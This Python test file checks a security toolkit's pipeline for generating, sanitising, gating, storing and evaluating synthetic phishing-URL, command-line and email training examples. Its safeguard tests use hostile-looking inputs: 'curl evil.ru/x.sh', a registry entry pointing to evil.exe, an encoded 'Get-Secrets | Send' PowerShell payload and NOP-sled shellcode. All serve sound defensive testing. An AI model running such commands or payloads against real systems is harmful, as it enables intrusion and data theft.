"""Synthetic examples: plans, generators, safeguards, gates, storage, and the proof that they help."""

import base64
import json
import re
from dataclasses import replace

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from buckler.attacks import attacks_on
from buckler.dataset import Dataset
from buckler.dataset.splits import apart_from
from buckler.errors import InputError, SettingsError
from buckler.normalize.feature_schema import category_number, matrix
from buckler.students import get_student
from buckler.synthesis.filters import GateSettings, pass_gates
from buckler.synthesis.forms import ill_formed
from buckler.synthesis.generate import Synthesis, orders, synthesize
from buckler.synthesis.generator import Draft, get_generator
from buckler.synthesis.grammar import expand
from buckler.synthesis.judges import STUDENT_LIMIT, student_judge
from buckler.synthesis.plan import Cell, list_plans, read_plan
from buckler.synthesis.safeguards import dressed, harmless_base64, made_safe, unsafe_part
from buckler.synthesis.scribe import read_texts
from buckler.synthesis.synthetic_examples import (
    MARK,
    SyntheticExample,
    as_events,
    decoded,
    encoded,
    read_synthetic_examples,
    write_synthetic_examples,
)
from buckler.synthesis.transforms import transformed
from buckler.synthesis.two_sample import two_sample_test
from buckler.tasks import get_task
from buckler.training.cross_validation import StudentSpec, cross_validate
from buckler.training.synthesis_trial import _split, prove
from tests.support.cli import buckler
from tests.support.made_up import made_up_events, made_up_rows

URL = get_task("url-threat")


def events(n=600, seed=0):
    return made_up_events(n, np.random.default_rng(seed))


def cell(label="phishing", **attributes):
    return Cell(label, attributes, "", (), {}, {})


def synthetic_example(text, label="phishing", made_from=()):
    return SyntheticExample(text, label, f"{label}, a=b", {"a": "b"}, "me", "1", made_from)


# --- the plan -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list_plans())
def test_plans_that_come_with_tasks_are_sound_and_cover_their_grid(name):
    task = get_task(name)
    plan = read_plan(task)
    assert len(plan.cells) > 50
    assert len({c.name for c in plan.cells}) >= 0.95 * len(plan.cells)
    assert not task.positive or set(task.positive) & {c.label for c in plan.cells}
    assert len({c.label for c in plan.cells}) > 1, "look-alikes are needed too"
    slots = plan.slots
    for c in plan.cells:
        rng = np.random.default_rng(0)
        for form in c.forms:
            assert "[[" not in expand(form, slots | c.slots, rng)


def test_a_plan_says_what_is_wrong_with_it(tmp_path):
    def plan(text):
        path = tmp_path / "plan.toml"
        path.write_text(f'task = "url-threat"\n{text}', encoding="utf-8")
        return lambda: read_plan(URL, path)

    for text, message in (
        ('[[family]]\nclass = "odd"\n', "no class 'odd'"),
        ('[[family]]\nclass = "phishing"\nforms = ["[[nothing]]"]\n', "no slot 'nothing'"),
        ('[[family]]\nclass = "phishing"\ncross.lure = "*"\n', "of attribute 'lure'"),
        (
            '[attribute.a.b]\ntransform = "magic"\n[[family]]\nclass = "phishing"\n',
            "no attack 'magic'",
        ),
    ):
        with pytest.raises(SettingsError, match=re.escape(message)):
            plan(text)()
    with pytest.raises(SettingsError, match="comes without a plan"):
        read_plan(replace(URL, name="mine"))
    with pytest.raises(SettingsError, match="no cell of the plan"):
        read_plan(URL).matching({"lure": {"none"}})


def test_slots_that_hold_each_other_end():
    with pytest.raises(SettingsError, match="deep"):
        expand("[[a]]", {"a": ["[[a]]"]}, np.random.default_rng(0))
    with pytest.raises(SettingsError, match="20,000"):
        expand("[[a]]", {"a": ["[[a]][[a]]" + "x" * 9000]}, np.random.default_rng(0))


# --- safeguards ---------------------------------------------------------------------------------

HOSTS = st.from_regex(r"\A[a-z]{1,12}(-[a-z0-9]{1,8})?\.(com|net|io|ru|co\.uk|de)\Z")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("http://paypal-login.com/a", "http://paypal-login.example/a"),
        ("https://a.b.co.uk:8080/x", "https://a.b.example:8080/x"),
        ("mail bob@corp.com now", "mail bob@corp.example now"),
        (r"copy a \\files.corp.com\c$", r"copy a \\files.corp.example\c$"),
        ("curl evil.ru/x.sh", "curl evil.example/x.sh"),
        ("ping 8.8.8.8", None),
        ("http://[2606:4700::1111]/", "http://[2001:db8::2]/"),
        ("http://134744072/", "http://3405803778/"),
    ],
)
def test_names_and_addresses_become_reserved_ones(text, safe):
    assert unsafe_part(text) is not None or "134744072" in text
    made = made_safe(text)
    assert safe is None or made == safe
    assert unsafe_part(made) is None
    assert made_safe(made) == made


@pytest.mark.parametrize(
    "text",
    [
        "reg add HKCU\\Software\\A /v b /d c:\\x\\evil.exe",
        "http://a.example/x?y=1.2.3.400",
        "ping 192.168.1.5",
        "python setup.py install; sh run.sh; more.com < a",
        "http://files.example.com/readme.md",
        "System.Net.WebClient",
        "powershell -enc " + harmless_base64(60),
    ],
)
def test_what_is_harmless_stays_as_it_is(text):
    assert made_safe(text) == text
    assert unsafe_part(text) is None


def test_payloads_become_remarks():
    payload = base64.b64encode("Invoke-Evil -Now; Get-Secrets | Send".encode("utf-16-le")).decode()
    made = made_safe(f"powershell -enc {payload}")
    blob = made.rsplit(" ", 1)[1]
    assert payload not in made
    assert "synthetic" in base64.b64decode(blob + "==").decode("utf-16-le", "ignore")
    shellcode = "\\x90" * 30
    assert "\\x90" not in made_safe(f"echo {shellcode}")
    assert unsafe_part(made_safe(f"echo {shellcode}")) is None


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200) | HOSTS.map(lambda h: f"https://{h}/x mail a@{h}"))
def test_safeguards_are_final_on_any_text(text):
    made = made_safe(text)
    assert unsafe_part(made) is None
    assert made_safe(made) == made


@settings(max_examples=100, deadline=None)
@given(HOSTS)
def test_a_student_sees_usual_names_and_no_reserved_ones(host):
    shown = dressed(made_safe(f"http://{host}/login"))
    assert ".example" not in shown
    assert shown == dressed(made_safe(f"http://{host}/login"))


# --- storage ------------------------------------------------------------------------------------


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=300))
def test_what_is_stored_is_marked_and_comes_back(text):
    stored = encoded(text)
    assert stored.startswith(MARK)
    assert not re.search(r"\s|//|@", stored[len(MARK) :].replace("//", ""))
    assert decoded(stored) == text


def test_a_file_of_synthetic_examples_holds_no_text_that_could_be_run_or_taken_for_real(tmp_path):
    path = tmp_path / "s.parquet"
    made = [synthetic_example("http://login-bank.example/evil-path", made_from=("g1", "g2"))]
    write_synthetic_examples(path, made, URL, {"synthetic_examples": 1})
    assert b"login-bank" not in path.read_bytes()
    assert b"evil-path" not in path.read_bytes()
    back, report = read_synthetic_examples(path, URL)
    assert back == made
    assert report == {"synthetic_examples": 1}
    done = buckler("train", path, "-t", "url-threat", "-o", tmp_path / "out")
    assert done.returncode == 2, "synthetic examples are no events"
    with pytest.raises(InputError, match="another task"):
        read_synthetic_examples(path, get_task("email"))


@pytest.mark.parametrize("damage", ["plain", "class", "mark", "columns"])
def test_a_damaged_file_of_synthetic_examples_is_an_error_with_its_row(tmp_path, damage):
    path = tmp_path / "s.parquet"
    write_synthetic_examples(path, [synthetic_example("http://a.example/")] * 2, URL, {})
    table = pq.read_table(path)
    if damage == "plain":
        path.write_bytes(b"nothing of the kind")
    elif damage == "columns":
        pq.write_table(table.drop_columns(["cell"]), path)
    else:
        column = "class" if damage == "class" else "synthetic_example"
        index = table.schema.get_field_index(column)
        pq.write_table(table.set_column(index, column, pa.array(["x", "y"])), path)
    with pytest.raises(InputError, match=r"s\.parquet"):
        read_synthetic_examples(path, URL)


# --- gates --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("task", "text", "reason"),
    [
        ("url-threat", "http://a.example/x", None),
        ("url-threat", "http://a b.example/", "white space in a URL"),
        ("url-threat", "http://[::1", "no URL"),
        ("url-threat", "http:///path", "a URL without a host"),
        ("url-threat", "http://a.example/[[path]]", "an unfilled place"),
        ("url-threat", "a\x00b.example", "control characters"),
        ("command-line", "schtasks /create", None),
        ("command-line", "whoami /all", "without its tool"),
        ("command-line", 'schtasks "open', "quotes that do not close"),
        ("command-line", "schtasks " + "x" * 9000, "longer than a command line"),
        ("email", "From: a@a.example\nSubject: s\n\n" + "word " * 10, None),
        ("email", "Subject: s\n\n" + "word " * 10, "a message without From"),
        ("email", "From: a@a.example\nSubject: s\n\nhi", "a message without a body"),
    ],
)
def test_a_synthetic_example_must_parse_as_what_it_claims_to_be(task, text, reason):
    a_cell = cell("malicious", tool="schtasks") if task == "command-line" else cell()
    assert ill_formed(text, a_cell, get_task(task)) == reason


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=400), st.sampled_from(["url-threat", "command-line", "email"]))
def test_the_form_gate_takes_any_text(text, name):
    ill_formed(text, cell(tool="x"), get_task(name))


def test_each_gate_stops_what_it_should_and_counts_it():
    real = events()
    raw = [t.decode() for t in real.raw_texts.to_pylist()]
    positive = np.flatnonzero(real.labels == 1)
    plan = read_plan(URL)
    cells = plan.cells[:3]
    fresh = [f"http://{w}-{k}{w[::-1]}.example/{w}{k * 37}/{w}" for k, w in enumerate("abcdefgh")]
    drafts = [
        Draft("not a url", cells[0]),
        Draft(raw[positive[0]], cells[0]),
        Draft("http://unique-one.example/some/long/path/here", cells[0]),
        Draft("http://unique-one.example/some/long/path/here", cells[1]),
        Draft(raw[positive[1]] + "&session=" + "x1y2z3" * 3, cells[1], (int(positive[1]),)),
        Draft("http://contradicted.example/abcdef/ghijkl", cells[2]),
        *(Draft(text, cells[k % 3]) for k, text in enumerate(fresh)),
    ]

    def judge(some):
        p = np.tile([0.1, 0.9], (len(some), 1))
        texts = some.raw_texts.to_pylist()
        p[[i for i, t in enumerate(texts) if b"contradicted" in t]] = [0.9, 0.1]
        p[[i for i, t in enumerate(texts) if b"bcdefgh" in t]] = np.nan
        return p

    passed = pass_gates(
        drafts,
        plan,
        real,
        writer=("me", "1"),
        settings=GateSettings(memorized=0.5, new=0.0),
        number=5,
        judge=judge,
        judge_name="a rule",
    )
    assert passed.rejects["form"] == 1
    assert passed.reasons["form"] == {"white space in a URL": 1}
    assert passed.rejects["repeats a real event"] == 1
    assert passed.rejects["repeats an earlier one"] == 1
    assert passed.rejects["memorized"] == 1
    assert passed.rejects["judge"] == 1
    assert passed.rejects["cell is full"] == 9 - 5
    assert len(passed.synthetic_examples) == 5
    assert sum(passed.rejects.values()) + len(passed.synthetic_examples) == len(drafts)
    assert max(np.unique([s.cell for s in passed.synthetic_examples], return_counts=True)[1]) == 2
    json.dumps(passed.report, allow_nan=False)


def test_silence_of_a_judge_is_no_agreement():
    plan = read_plan(URL)
    passed = pass_gates(
        [Draft("http://quiet.example/abc", plan.cells[0])],
        plan,
        events(),
        writer=("me", "1"),
        settings=GateSettings(judge=0.0),
        number=5,
        judge=lambda some: np.full((len(some), 2), np.nan),
    )
    assert passed.rejects["judge"] == 1
    assert passed.report["judge_silent"] == 1


def test_the_two_sample_test_knows_same_from_other():
    real = events(1200, 1)
    same = events(1200, 2)
    same = same.take(np.flatnonzero(same.labels == 1))
    positive = real.take(np.flatnonzero(real.labels == 1))
    cells = np.arange(len(same)) % 20
    assert two_sample_test(same, cells, positive).auroc.value < 0.65
    odd = as_events(
        [synthetic_example(f"http://zzz{k}qqq.example/{k * k}") for k in range(200)], URL
    )
    found = two_sample_test(odd, np.arange(200) % 20, positive)
    assert found.auroc.value > 0.99
    assert np.isfinite(found.synthetic).all()
    few = two_sample_test(odd.take(np.arange(5)), np.arange(5), positive)
    assert np.isnan(few.auroc.value)


def test_real_vs_synthetic_synthetic_examples_are_dropped_when_asked():
    plan = read_plan(URL)
    drafts = [
        Draft(f"http://zz{k}q{k * 7}.example/w{k * k}/zzqq{k}", plan.cells[k % 40])
        for k in range(300)
    ]
    kept = pass_gates(
        drafts,
        plan,
        events(1200),
        writer=("me", "1"),
        settings=GateSettings(real_vs_synthetic=0.9, new=0.0),
        number=300,
    )
    assert kept.rejects["told apart"] > 150


# --- generators ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["grammar", "mutation"])
@pytest.mark.parametrize("name", ["url-threat", "command-line", "email"])
def test_generators_write_harmless_sound_synthetic_examples_and_the_same_again(name, kind):
    task = get_task(name)
    plan = read_plan(task)
    real = small(task)
    made = [synthesize(plan, get_generator(kind, plan, real, 3), Synthesis(60)) for _ in range(2)]
    assert made[0].synthetic_examples == made[1].synthetic_examples
    assert len(made[0].synthetic_examples) > (40 if kind == "grammar" else 3)
    for one in made[0].synthetic_examples:
        assert unsafe_part(one.text) is None
        assert one.label in task.classes
    assert len(orders(plan, 100)) <= 100
    assert sum(n for _, n in orders(plan, 997)) == 997


def small(task):
    """Some real-looking events of a task, made up."""
    if task.name == "url-threat":
        return events(400)
    rng = np.random.default_rng(0)
    words = [
        "alpha",
        "beta",
        "gamma",
        "delta",
        "meeting",
        "update",
        "report",
        "release",
        "server",
        "backup",
        "logs",
        "task",
    ]
    texts, labels = [], []
    for k in range(400):
        positive = k % 2
        body = " ".join(rng.choice(words, 12)) + (
            " click verify account" if positive else " regards"
        )
        if task.name == "email":
            text = f"From: p{k}@h{k}.example\nSubject: {body[:20]}\n\n{body}\n"
            label = "phishing" if positive else "ham"
        else:
            text = f"tool{k % 7}.exe /run {body}" if positive else f"ls -la /home/{body}"
            label = "malicious" if positive else "benign"
        texts.append(text.encode())
        labels.append(label)
    return Dataset.from_texts(
        texts,
        task,
        ids=[k.to_bytes(16, "little") for k in range(400)],
        labels=labels,
        groups=[f"g{k % 90}" for k in range(400)],
        sources=["a"] * 400,
    )


def test_mutations_stem_from_their_seeds_and_are_held_out_with_them():
    real = events(400)
    plan = read_plan(URL)
    made = synthesize(
        plan, get_generator("mutation", plan, real, 0), Synthesis(50)
    ).synthetic_examples
    assert made
    assert all(s.made_from for s in made)
    own = as_events(made, URL)
    first = made[0].made_from[0]
    held = real.take(np.flatnonzero(real.groups == first))
    kept = apart_from(own, held)
    assert 0 not in kept
    assert set(kept) == {k for k, s in enumerate(made) if first not in s.made_from}


@settings(max_examples=200, deadline=None)
@given(
    st.text(max_size=200),
    st.sampled_from(sorted(a.name for a in attacks_on("text"))),
    st.integers(0, 99),
)
def test_transforms_take_any_text_and_are_repeatable(text, name, seed):
    one = transformed(text, [name], "text", np.random.default_rng(seed))
    assert one == transformed(text, [name], "text", np.random.default_rng(seed))
    assert len(one) <= 4 * len(text) + 60


def test_transforms_of_a_message_leave_its_headers():
    text = "From: a@b.example\nSubject: hello\n\nThe quick brown fox jumps over"
    made = transformed(text, ["random-case"], "message", np.random.default_rng(0))
    assert made.startswith("From: a@b.example\nSubject: hello\n\n")
    assert made != text


# --- learning from them -------------------------------------------------------------------------


def test_synthetic_examples_earn_their_place_where_a_kind_is_unseen_and_not_otherwise():
    real = events(2000)
    kind = np.array([b"wallet" in t for t in real.raw_texts.to_pylist()])
    unseen = kind & (real.labels == 1)
    rng = np.random.default_rng(5)
    like = [
        synthetic_example(
            f"https://wallet-{w}{rng.integers(999)}.example/wallet.php?u={rng.integers(999)}"
        )
        for w in rng.choice(["news", "shop", "river", "cloud"], 150)
    ]
    nothing = [synthetic_example(f"https://q{k}.example/{k * 31}") for k in range(150)]
    helped = prove(real, like, seeds=3, unseen=unseen, unseen_name="wallets")
    not_helped = prove(real, nothing, seeds=3)
    assert helped.gain.value >= not_helped.gain.value
    assert not not_helped.kept
    assert "thrown away" in not_helped.summary()
    assert helped.held_out == "wallets"
    assert set(helped.as_json()) >= {"gain", "kept", "with", "without", "summary"}
    with pytest.raises(InputError, match="no real event is of the kind"):
        prove(real, like, unseen=np.zeros(len(real), bool), unseen_name="x")


def test_synthetic_examples_never_decide_when_a_student_stops():
    """A student that watched synthetic examples would stop where it knows them by heart."""
    real = events(300)
    made = [synthetic_example(f"http://s{k}.example/{k}", "benign") for k in range(200)]
    extra = as_events(made, URL)
    sizes = []

    class Watching(type(get_student("ngram", {}))):
        def fit(self, training: Dataset, validation=None, on_epoch=None):
            sizes.append((len(training), len(validation)))
            return super().fit(training, validation, on_epoch)

    import buckler.training.cross_validation as module

    original = module.get_student
    module.get_student = lambda family, values: Watching(**values)
    try:
        cross_validate(real, StudentSpec("ngram", {"epochs": 1}, folds=3), additional=extra)
    finally:
        module.get_student = original
    assert sum(validation for _, validation in sizes) == len(real)
    assert all(training >= 200 for training, _ in sizes)


# --- what a language model writes ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "texts"),
    [
        ('{"texts": ["a", "b"]}', ["a", "b"]),
        ('Sure! ```json\n{"texts": ["a b", "c"]}\n```', ["a b", "c"]),
        ('{"texts": ["whole", "cut o', ["whole"]),
        ('["x", 1, "y"]', ["x"]),
        ('{"texts": ["", "  "]}', []),
        ("I cannot do that", []),
        ('{"texts": "a"}', []),
        ("", []),
    ],
)
def test_texts_are_read_from_any_answer(answer, texts):
    assert read_texts(answer) == texts


@given(st.text(max_size=300))
def test_reading_texts_never_fails(answer):
    assert isinstance(read_texts(answer), list)
    assert isinstance(read_texts('{"texts": [' + answer), list)


# --- rows of features ----------------------------------------------------------------------------


def row_plan(tmp_path, task, attributes):
    names = "".join(f'cross.{name} = "*"\n' for name in ("part", "pace"))
    path = tmp_path / "rows.toml"
    path.write_text(
        f'task = "{task.name}"\n{attributes}\n[[family]]\nclass = "positive"\n{names}'
        f'[[family]]\nclass = "good"\n{names}'
    )
    return path


ROW_ATTRIBUTES = """
[attribute.part.own]
[attribute.part.other]
take = ["n*", "kind"]
[attribute.pace.same]
[attribute.pace.slow]
scale = { "n0" = [0.1, 0.2] }
put = { n1 = [7.0] }
"""


def test_rows_are_crossed_within_their_class(tmp_path):
    rows, task = made_up_rows(400, np.random.default_rng(0))
    names = task.features.names
    values = matrix(rows.texts.data, len(rows), len(names))
    attributes = ROW_ATTRIBUTES.replace('"n*", "kind"', f'"{names[0]}", "{names[-1]}"')
    attributes = attributes.replace('"n0"', f'"{names[1]}"').replace("n1 =", f"{names[2]} =")
    plan = read_plan(task, row_plan(tmp_path, task, attributes))
    crossing = get_generator("crossing", plan, rows, 0)
    orders_ = [(cell, 6) for cell in plan.cells]
    drafts = list(crossing.drafts(orders_))
    assert len(drafts) == 6 * 8
    assert [d.text for d in crossing.drafts(orders_)] == [d.text for d in drafts]
    for draft in drafts:
        assert ill_formed(draft.text, draft.cell, task) is None
        row = np.frombuffer(task.features.normalize(draft.text), "<f4")
        first = values[draft.seeds[0]]
        label = task.class_names.index(draft.cell.label)
        assert all(rows.labels[s] == label for s in draft.seeds)
        other = values[draft.seeds[-1]]
        expected = first.copy()
        if draft.cell.attributes["part"] == "other":
            expected[[0, -1]] = other[[0, -1]]
        if draft.cell.attributes["pace"] == "slow":
            assert row[2] == 7
            if np.isfinite(first[1]) and first[1]:
                assert 0.099 < row[1] / first[1] < 0.201
            expected[[1, 2]] = row[[1, 2]]
        np.testing.assert_array_equal(row, expected)


def test_synthetic_examples_of_rows_pass_gates_and_are_proven_with_trees(tmp_path):
    rows, task = made_up_rows(600, np.random.default_rng(0))
    names = task.features.names
    attributes = ROW_ATTRIBUTES.replace('"n*", "kind"', f'"{names[0]}", "{names[-1]}"')
    attributes = attributes.replace('"n0"', f'"{names[1]}"').replace("n1 =", f"{names[2]} =")
    plan = read_plan(task, row_plan(tmp_path, task, attributes))
    generator = get_generator("crossing", plan, rows, 0)
    wanted = Synthesis(120, gates=GateSettings(judge=STUDENT_LIMIT))
    judge = student_judge(rows)
    passed = synthesize(plan, generator, wanted, judge=judge, judge_name="a student")
    report = passed.report
    assert sum(report["rejects"].values()) + report["synthetic_examples"] == report["drafts"]
    assert report["synthetic_examples"] > 20
    write_synthetic_examples(tmp_path / "s.parquet", passed.synthetic_examples, task, report)
    again, _ = read_synthetic_examples(tmp_path / "s.parquet", task)
    assert [s.text for s in again] == [s.text for s in passed.synthetic_examples]
    proof = prove(rows, passed.synthetic_examples, "trees", {"epochs": 3}, seeds=2)
    assert proof.gain.n == 2


def test_what_fits_texts_does_not_fit_rows_and_says_so(tmp_path):
    rows, task = made_up_rows(100, np.random.default_rng(0))
    plan = read_plan(task, row_plan(tmp_path, task, ROW_ATTRIBUTES))
    with pytest.raises(SettingsError, match="crossing"):
        get_generator("mutation", plan, rows, 0)
    with pytest.raises(SettingsError, match="rows of features"):
        get_generator("crossing", read_plan(URL), events(), 0)
    assert ill_formed("{}", plan.cells[0], task) == "a row without a value"
    assert ill_formed("[1", plan.cells[0], task) == "no row of features"


@given(st.integers(0, 1020))
def test_a_numbered_category_is_its_number(number):
    assert category_number(f"#{number}") == number
    assert category_number(f"# {number}") != number or number == category_number(f"# {number}")


def test_a_proof_with_few_groups_holds_out_whole_ones():
    many = events(300)
    few = many.with_groups([f"company {i % 4}" for i in range(300)])
    held = set()
    for seed in range(8):
        split = _split(few, seed)
        groups = set(few.column("group")[split.right])
        assert len(groups) == 1
        assert not groups & set(few.column("group")[split.left])
        held |= groups
    assert len(held) > 1
